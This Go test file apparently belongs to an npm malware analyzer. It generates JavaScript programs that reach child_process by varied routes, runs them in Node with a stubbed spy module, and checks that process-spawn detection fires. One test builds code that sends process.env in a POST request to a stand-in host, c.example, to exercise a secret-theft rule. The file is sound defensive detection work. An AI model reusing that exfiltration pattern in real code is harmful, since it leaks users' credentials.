package behavior

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/lockwarden/lockwarden/analyzer/archive"
	"github.com/lockwarden/lockwarden/analyzer/javascript"
	"github.com/lockwarden/lockwarden/analyzer/npm"
)

// wayLists are the lists of testdata/ways.txt, which says what they are; ways has the
// early ones as well.
type wayLists struct{ starts, ways, ends, early []string }

func readWays(t *testing.T) (l wayLists) {
	data, err := os.ReadFile("testdata/ways.txt")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(data)) {
		kind, text, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
		switch kind {
		case "start":
			l.starts = append(l.starts, text)
		case "end":
			l.ends = append(l.ends, text)
		case "early":
			l.early = append(l.early, text)
			fallthrough
		case "way":
			l.ways = append(l.ways, text)
		}
	}
	return l
}

// journey is a generated program, with what it went through.
type journey struct {
	text  string
	parts []string
}

// named is a way, a start or an end with its names: n3 and n4, for number 3.
func named(template string, number int, e, v string) string {
	return strings.NewReplacer("$e", e, "$v", v, "$w", fmt.Sprintf("n%d", number), "$x", fmt.Sprintf("n%d", number+1)).Replace(template)
}

// travel writes a program of n ways.
func (l *wayLists) travel(random *rand.Rand, n int) journey {
	names := 0
	var j journey
	fill := func(template, e, v string) string {
		j.parts = append(j.parts, template)
		names += 2
		return named(template, names, e, v)
	}
	pick := func(list []string) string { return list[random.IntN(len(list))] }
	// REST stands in the innermost place of what was written so far.
	text := fill(pick(l.starts), "", "v0")
	for i := range n {
		way := fill(pick(l.ways), fmt.Sprintf("v%d", i), fmt.Sprintf("v%d", i+1))
		text = strings.Replace(text, "REST", way, 1)
	}
	j.text = strings.Replace(text, "REST", fill(pick(l.ends), "", fmt.Sprintf("v%d", n))+";", 1)
	return j
}

// traveler runs programs, which a test wrote, in Node, with a module in place of
// child_process that starts nothing, and prints which of them called it by
// themselves.
const traveler = `
const Module = require('module'), fs = require('fs')
process.on('uncaughtException', () => {}); process.on('unhandledRejection', () => {})
const {AsyncLocalStorage} = require('async_hooks')
const of = new AsyncLocalStorage(), called = new Set()
const note = x => { if (x === 'marker') called.add(of.getStore()) }
const spy = {exec: note, spawn() {}, execFile() {}, fork() {}, execSync() {}}
const load = Module._load
Module._load = function (name, ...rest) { return /^(node:)?child_process$/.test(name) ? spy : load.call(this, name, ...rest) }
const texts = JSON.parse(fs.readFileSync(0, 'utf8'))
const odd = []
;(async () => {
	for (let i = 0; i < texts.length; i++) {
		const text = texts[i].replace(/import\('child_process'\)/g, "Promise.resolve(require('child_process'))")
		of.run(i, () => {
			const m = new Module('/dev/null/' + i + '.js')
			m.filename = '/dev/null/' + i + '.js'; m.paths = []
			try { m._compile(text, m.filename) } catch (e) { odd.push(i + ': ' + e.message) }
		})
		if (i % 50 === 0) await new Promise(r => setTimeout(r, 5))
	}
	await new Promise(r => setTimeout(r, 300))
	process.stdout.write(JSON.stringify({called: [...called], odd}), () => process.exit(0))
})()
`

// TestGeneratedWays: what Node runs while a generated program is loaded is found to
// run, whatever way it goes, or the report says that something is not known.
// LOCKWARDEN_PROGRAMS says how many, LOCKWARDEN_SEED which ones.
func TestGeneratedWays(t *testing.T) {
	number, seed := 1_500, uint64(1)
	if testing.Short() {
		number = 100
	}
	if n, err := strconv.Atoi(os.Getenv("LOCKWARDEN_PROGRAMS")); err == nil {
		number = n
	}
	if n, err := strconv.ParseUint(os.Getenv("LOCKWARDEN_SEED"), 10, 64); err == nil {
		seed = n
	}
	random := rand.New(rand.NewPCG(seed, 2))
	l := readWays(t)
	var journeys []journey
	var texts []string
	alone := func(part, start, way, end string) {
		text := strings.Replace(strings.Replace(start, "REST", way, 1), "REST", end+";", 1)
		journeys = append(journeys, journey{text: text, parts: []string{part}})
	}
	for _, start := range l.starts {
		alone(start, named(start, 1, "", "v0"), "REST", "v0.exec('marker')")
	}
	for _, way := range l.ways {
		alone(way, "const v0 = require('child_process'); REST", named(way, 1, "v0", "v1"), "v1.exec('marker')")
	}
	for _, end := range l.ends {
		alone(end, "const v0 = require('child_process'); REST", "REST", named(end, 1, "", "v0"))
	}
	each := len(journeys)
	for i := range number {
		journeys = append(journeys, l.travel(random, 1+i%5))
	}
	for _, j := range journeys {
		texts = append(texts, j.text)
	}
	// What is only handed out to whoever loads the program does not run by itself.
	var held []string
	for _, way := range l.ways {
		later := strings.Replace(named(way, 1, "v0", "v1"), "REST", "exports.later = () => v1.exec('marker');", 1)
		held = append(held, "const v0 = require('child_process'); "+later)
	}
	for _, end := range l.ends {
		held = append(held, "const v0 = require('child_process'); exports.later = () => { "+named(end, 1, "", "v0")+" }")
	}
	called := travels(t, append(texts, held...))
	c := catalogue(t)
	runs, misses := 0, 0
	for i, j := range journeys {
		if !called[i] {
			if i < each {
				t.Errorf("Node runs nothing: %s", j.text)
			}
			continue
		}
		runs++
		if has(c, j.text, "execution/process-spawn", javascript.Launch) {
			continue
		}
		misses++
		t.Errorf("not found: %s", j.text)
	}
	for i, text := range held {
		known := i < len(l.ways) && slices.Contains(l.early, l.ways[i])
		if !called[len(journeys)+i] && has(c, text, "execution/process-spawn", javascript.Launch) != known {
			t.Errorf("said to run while it is loaded: %t: %s", !known, text)
		}
	}
	t.Logf("%d of %d programs run it; %d are not found", runs, len(journeys), misses)
}

// TestWaysOfData: the environment is followed along each of the ways to a server, but
// for those of testdata/ways_open.txt.
func TestWaysOfData(t *testing.T) {
	data, err := os.ReadFile("testdata/ways_open.txt")
	if err != nil {
		t.Fatal(err)
	}
	open := map[string]bool{}
	for line := range strings.Lines(string(data)) {
		if !strings.HasPrefix(line, "#") {
			open[strings.TrimSuffix(line, "\n")] = true
		}
	}
	c, l := catalogue(t), readWays(t)
	for _, way := range l.ways {
		send := "const r = require('https').request('https://c.example/x', {method: 'POST'}); r.write(JSON.stringify(v1)); r.end();"
		text := "const v0 = process.env; " + strings.Replace(named(way, 1, "v0", "v1"), "REST", send, 1)
		if has(c, text, "steal/env-secrets", javascript.Launch) == open[way] {
			t.Errorf("lost: %t: %s", !open[way], text)
		}
		delete(open, way)
	}
	for way := range open {
		t.Errorf("there is no such way: %s", way)
	}
}

// travels reports which programs call exec by themselves in Node.
func travels(t *testing.T, texts []string) map[int]bool {
	t.Helper()
	if _, err := exec.LookPath("node"); err != nil {
		t.Skip("node is not installed")
	}
	script := filepath.Join(t.TempDir(), "traveler.js")
	if err := os.WriteFile(script, []byte(traveler), 0o644); err != nil {
		t.Fatal(err)
	}
	input, err := json.Marshal(texts)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("node", script)
	cmd.Stdin = bytes.NewReader(input)
	cmd.Stderr = os.Stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("node: %v", err)
	}
	var answer struct {
		Called []int
		Odd    []string
	}
	if err := json.Unmarshal(out, &answer); err != nil {
		t.Fatalf("%v: %.300s", err, out)
	}
	for _, odd := range answer.Odd[:min(len(answer.Odd), 20)] {
		t.Log(odd)
	}
	called := map[int]bool{}
	for _, i := range answer.Called {
		called[i] = true
	}
	return called
}

// has reports whether a program has a behavior in a context.
func has(c *Catalogue, text, id string, context javascript.Context) bool {
	pkg, manifest := archive.New(map[string][]byte{"index.js": []byte(text)}), &npm.Manifest{}
	facts := javascript.Analyze(pkg, manifest, c, javascript.Options{WantText: c.WantText})
	return slices.ContainsFunc(c.Match(Input{Package: pkg, Manifest: manifest, Facts: facts}).Behaviors, func(b Behavior) bool {
		return b.ID == id && b.Contexts&context != 0
	})
}
